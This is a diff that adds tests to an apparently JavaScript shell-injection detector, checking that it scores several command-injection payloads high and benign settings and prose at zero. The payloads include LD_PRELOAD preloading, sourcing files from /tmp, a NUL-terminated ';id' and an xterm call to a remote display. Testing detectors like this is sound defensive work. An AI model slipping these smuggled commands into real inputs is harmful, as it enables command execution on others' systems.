@@ -566,3 +566,13 @@ describe("shell analyzer: a quoted word on a line of its own", () => {
     expect(s('x\n"whoami"')).toBe(0.9);
   });
 });
+
+describe("shell analyzer: a payload round's forms", () => {
+  test("variables assigned before the command, a sourced file, a NUL after the command, programs started for a proof", () => {
+    for (const v of [";X=1 id", ";LD_PRELOAD=/tmp/x.so id", ";. /tmp/x", ";source /tmp/x.sh", "&calc", "| notepad"]) expect([v, s(v) >= 0.8]).toEqual([v, true]);
+    expect(s(";xterm -display 10.0.0.1:1")).toBe(0.9);
+    expect(s(";id\u0000")).toBeGreaterThan(0);
+    // Settings and prose: assignments with no command after them, a source of truth, a sentence's dot.
+    for (const v of ["x=1;y=2;z=3", "; x=5 and more", "open source; source of truth", "see section 5. /usr/bin is"]) expect([v, s(v)]).toEqual([v, 0]);
+  });
+});
